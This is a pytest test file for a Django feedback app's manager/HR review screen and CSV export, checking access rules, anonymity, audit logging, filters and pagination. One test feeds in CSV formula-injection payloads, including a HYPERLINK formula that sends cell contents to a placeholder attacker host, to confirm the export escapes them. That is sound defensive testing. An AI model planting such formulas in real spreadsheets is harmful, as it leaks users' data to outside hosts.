"""The evaluation screen, /feedback/reviews/, and its CSV: evaluative feedback about
the people below a manager (the whole chain) or, for HR, about everyone; never a
developmental word, a held-back anonymous answer, an anonymous author or the
recipient's reflection; every item shown to a third party audited; 404 for anyone
with nobody below them."""

import csv
import io
from datetime import UTC, datetime

import pytest

from feedback.evaluations import EXPORT_VERB
from feedback.models import Feedback, Stream
from feedback.services import (
    feedback_give,
)
from people.models import AuditEvent
from tests.support.factories import FeedbackFactory
from tests.support.feedback_reviews import (
    ANON,
    DEV,
    EVAL_MARKERS,
    EVAL_OTHER,
    EVAL_REP,
    HELD,
    NOT_REVIEWERS,
    READ,
    REFLECTION,
    SECRET_AUTHOR,
    SEES,
    THEME,
    build_world,
    expected_reads,
    reviews_world,
)

PAGE = "/feedback/reviews/"
CSV = "/feedback/reviews/export.csv"


READERS = [*SEES, *NOT_REVIEWERS]


def list_section(page: str) -> str:
    """The items, without the filter form (whose person select names people)."""
    return page.split('aria-labelledby="reviews-heading"', 1)[1]


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def reads_by(user):
    return AuditEvent.objects.filter(verb=READ, actor=user)


@pytest.fixture
def world(org):
    return build_world(org)


# --- Who gets in -----------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("who", READERS)
def test_the_screen_opens_for_hr_and_managers_and_is_404_to_everyone_else(client, org, world, who):
    client.force_login(getattr(org, who))
    expected = 200 if who in SEES else 404
    assert client.get(PAGE).status_code == expected
    assert client.get(CSV).status_code == expected


@pytest.mark.django_db
def test_someone_with_nobody_below_them_gets_404_and_nothing_is_written(client, org, world):
    client.force_login(world)  # Zed: a rep, with no one reporting to them
    assert client.get(PAGE).status_code == 404
    assert client.get(CSV).status_code == 404
    assert not AuditEvent.objects.filter(verb__in=[READ, EXPORT_VERB]).exists()


@pytest.mark.django_db
def test_anonymous_visitors_are_sent_to_sign_in(client, world):
    for path in (PAGE, CSV):
        response = client.get(path)
        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/login/?next=")


# --- What each reader sees --------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    "who, title",
    [
        ("manager", "Evaluative feedback about my people"),
        ("head", "Evaluative feedback about my people"),
        ("hr", "Evaluative feedback across the organisation"),
    ],
)
def test_the_title_names_whose_feedback_the_reader_sees(client, org, world, who, title):
    client.force_login(getattr(org, who))
    page = client.get(PAGE).content.decode()
    assert f"<h1>{title}</h1>" in page
    assert f"<title>{title}" in page


@pytest.mark.django_db
@pytest.mark.parametrize("who", SEES)
def test_each_reader_sees_the_evaluative_stream_below_them_and_nothing_else(
    client, org, world, who
):
    client.force_login(getattr(org, who))
    page = client.get(PAGE).content.decode()
    for key, marker in EVAL_MARKERS.items():
        assert (marker in page) == (key in SEES[who]), (who, key)
    assert DEV not in page  # not even for the manager the rep shared it with
    assert HELD not in page
    assert REFLECTION not in page and THEME not in page
    assert 'class="stream-banner stream-evaluative"' in page
    assert "Developmental feedback never appears" in page


@pytest.mark.django_db
@pytest.mark.parametrize("who", SEES)
def test_the_csv_holds_the_same_items_and_nothing_else(client, org, world, who):
    client.force_login(getattr(org, who))
    response = client.get(CSV)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="evaluative-')
    body = response.content.decode()
    for key, marker in EVAL_MARKERS.items():
        assert (marker in body) == (key in SEES[who]), (who, key)
    for private in (DEV, HELD, REFLECTION, THEME, SECRET_AUTHOR):
        assert private not in body
    assert len(csv_rows(response)) == 1 + expected_reads(who)


@pytest.mark.django_db
@pytest.mark.parametrize("who", ["head", "hr"])
def test_anonymous_answers_show_without_their_author(client, org, world, who):
    client.force_login(getattr(org, who))
    items = list_section(client.get(PAGE).content.decode())
    assert items.count(ANON) == 3
    assert "From Anonymous" in items
    assert SECRET_AUTHOR not in items
    rows = [row for row in csv_rows(client.get(CSV)) if row[5] == ANON]
    assert len(rows) == 3 and {row[3] for row in rows} == {""}


@pytest.mark.django_db
def test_a_csv_row_has_every_column_in_the_readers_time_zone(client, org, world):
    Feedback.objects.filter(observation=EVAL_REP).update(
        created_at=datetime(2025, 3, 10, 23, 30, tzinfo=UTC)
    )
    client.force_login(org.manager)
    header, row = csv_rows(client.get(CSV))
    assert header == [
        "date (Europe/Berlin)",
        "recipient",
        "recipient email",
        "author",
        "direction",
        "observation",
        "impact",
        "suggestion",
    ]
    assert row == [
        "2025-03-11 00:30",
        "Rita Rep",
        "rep@example.com",
        "Pavel Peer",
        "peer",
        EVAL_REP,
        "More demos booked",
        "Keep the agenda slide",
    ]


@pytest.mark.django_db
def test_cells_a_spreadsheet_would_run_are_neutralised(client, org):
    FeedbackFactory(
        stream=Stream.EVALUATIVE,
        author=org.peer,
        recipient=org.rep,
        observation='=HYPERLINK("https://evil.example/?"&A1,"Click")',
        impact="+1 more call",
        suggestion="@SUM(A1:A9)",
    )
    FeedbackFactory(
        stream=Stream.EVALUATIVE,
        author=org.peer,
        recipient=org.rep,
        observation="-2 on the quarter",
        impact="\tcmd",
        suggestion="fine = good",
    )
    client.force_login(org.manager)
    rows = csv_rows(client.get(CSV))[1:]
    assert [row[5:] for row in rows] == [
        ["'-2 on the quarter", "'\tcmd", "fine = good"],
        ['\'=HYPERLINK("https://evil.example/?"&A1,"Click")', "'+1 more call", "'@SUM(A1:A9)"],
    ]


# --- Audit -------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("who", SEES)
def test_every_item_shown_is_an_audited_read(client, org, world, who):
    reader = getattr(org, who)
    client.force_login(reader)
    client.get(PAGE)
    shown = Feedback.objects.filter(observation__in=[EVAL_MARKERS[k] for k in SEES[who]])
    logged = list(reads_by(reader).values_list("target_id", flat=True))
    assert sorted(logged) == sorted(item.ref for item in shown)  # anonymous: its random id


@pytest.mark.django_db
def test_the_author_reading_what_they_wrote_is_not_audited(client, org):
    feedback_give(
        author=org.manager, recipient=org.rep, stream=Stream.EVALUATIVE, observation=EVAL_REP
    )
    client.force_login(org.manager)
    assert EVAL_REP in client.get(PAGE).content.decode()
    assert not reads_by(org.manager).exists()


@pytest.mark.django_db
@pytest.mark.parametrize("who", SEES)
def test_an_export_writes_one_export_event_and_one_read_per_row(client, org, world, who):
    reader = getattr(org, who)
    client.force_login(reader)
    client.get(f"{CSV}?from=2000-01-01")
    export = AuditEvent.objects.get(verb=EXPORT_VERB, actor=reader)
    assert export.data == {
        "filters": {"person_id": None, "from": "2000-01-01", "to": None},
        "rows": expected_reads(who),
    }
    assert reads_by(reader).count() == expected_reads(who)


@pytest.mark.django_db
def test_an_empty_export_is_still_recorded(client, org, world):
    client.force_login(org.manager)
    client.get(f"{CSV}?person={org.peer.pk}")
    export = AuditEvent.objects.get(verb=EXPORT_VERB, actor=org.manager)
    assert export.data["rows"] == 0 and export.data["filters"]["person_id"] == org.peer.pk
    assert not reads_by(org.manager).exists()


# --- Filters -----------------------------------------------------------------------------


@pytest.mark.django_db
def test_filtering_by_person_offers_only_the_people_the_reader_reviews(client, org, world):
    client.force_login(org.head)
    page = client.get(f"{PAGE}?person={org.other_rep.pk}").content.decode()
    assert EVAL_OTHER in page and EVAL_REP not in page and ANON not in page
    client.force_login(org.other_manager)
    options = client.get(PAGE).content.decode().split('name="person"', 1)[1].split("</select>")[0]
    assert "Olga Outsider" in options
    assert "Rita Rep" not in options and "Omar Other" not in options


@pytest.mark.django_db
def test_the_date_range_is_whole_days_in_the_readers_time_zone(client, org, world):
    # 23:30 UTC on 10 March is 00:30 on 11 March in Berlin, the manager's zone.
    Feedback.objects.filter(observation=EVAL_REP).update(
        created_at=datetime(2025, 3, 10, 23, 30, tzinfo=UTC)
    )
    client.force_login(org.manager)
    for query, shown in [
        ("from=2025-03-11&to=2025-03-11", True),
        ("to=2025-03-10", False),
        ("from=2025-03-12", False),
        ("from=2025-03-01", True),
    ]:
        page = client.get(f"{PAGE}?{query}")
        assert page.status_code == 200
        assert (EVAL_REP in page.content.decode()) == shown, query


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("person=not-a-number", "Choose someone from the list."),
        ("person=999999", "Choose someone from the list."),
        ("person=other_rep", "Choose someone from the list."),  # exists, not below
        ("person=manager", "Choose someone from the list."),  # themselves
        ("from=2025-02-30", "Give a date like 2025-03-31."),
        ("to=yesterday", "Give a date like 2025-03-31."),
        ("from=0001-01-01", "Pick a date between 1970 and 2999."),
        ("to=9999-12-31", "Pick a date between 1970 and 2999."),
        ("from=2025-03-02&to=2025-03-01", "“From” is after “To”: swap them."),
        ("page=0", "Pages start at 1."),
        ("page=two", "Give a page number."),
    ],
)
def test_bad_filters_are_a_400_with_the_reason_and_nothing_is_written(
    client, org, world, query, message
):
    for name in ("other_rep", "manager"):
        query = query.replace(f"person={name}", f"person={getattr(org, name).pk}")
    client.force_login(org.manager)
    for path in (PAGE, CSV):
        response = client.get(f"{path}?{query}")
        assert response.status_code == 400, (path, query)
        page = response.content.decode()
        assert message in page
        assert EVAL_REP not in page
    assert not AuditEvent.objects.filter(verb__in=[READ, EXPORT_VERB]).exists()


@pytest.mark.django_db
def test_pages_hold_fifty_items_and_only_the_page_shown_is_audited(client, org):
    FeedbackFactory.create_batch(52, stream=Stream.EVALUATIVE, author=org.peer, recipient=org.rep)
    client.force_login(org.manager)
    first = client.get(PAGE).content.decode()
    assert "Page 1 of 2" in first and "?page=2" in first
    assert reads_by(org.manager).count() == 50
    second = client.get(f"{PAGE}?page=2").content.decode()
    assert "Page 2 of 2" in second
    assert reads_by(org.manager).count() == 52
    client.get(f"{PAGE}?page=9")  # past the end: the last page again
    assert reads_by(org.manager).count() == 54
    assert len(csv_rows(client.get(CSV))) == 53  # the export has every page


# --- Navigation ----------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("who", READERS)
def test_the_feedback_nav_offers_reviews_only_to_those_who_may_open_it(client, org, who):
    client.force_login(getattr(org, who))
    page = client.get("/feedback/").content.decode()
    assert (f'href="{PAGE}"' in page) == (who in SEES)


@pytest.mark.django_db
@pytest.mark.parametrize(("who", "home"), [("manager", "/team/"), ("hr", "/hr/")])
def test_the_manager_and_hr_homes_link_to_the_screen(client, org, who, home):
    client.force_login(getattr(org, who))
    page = client.get(home).content.decode()
    assert f'href="{PAGE}"' in page
    title = page[page.index("<title>") : page.index("</title>")]
    assert "<" not in title[len("<title>") :], title  # the link is in the page, not its title


# --- Query counts --------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("size", [3, 12])
def test_the_screen_costs_the_same_queries_whatever_the_number_of_items(
    client, django_assert_num_queries, size
):
    client.force_login(reviews_world(size))
    client.get(PAGE)  # warm the content-type cache
    # session, user, roles, count, the page's ids, its items with people, audit insert,
    # person choices, the header's unread count
    with django_assert_num_queries(9):
        response = client.get(PAGE)
    assert response.status_code == 200


@pytest.mark.django_db
@pytest.mark.parametrize("size", [3, 12])
def test_the_export_costs_the_same_queries_whatever_the_number_of_items(
    client, django_assert_num_queries, size
):
    client.force_login(reviews_world(size))
    client.get(CSV)
    # session, user, roles, items with people, savepoint, export event, read events,
    # release savepoint
    with django_assert_num_queries(8):
        response = client.get(CSV)
    assert len(csv_rows(response)) == size + 1
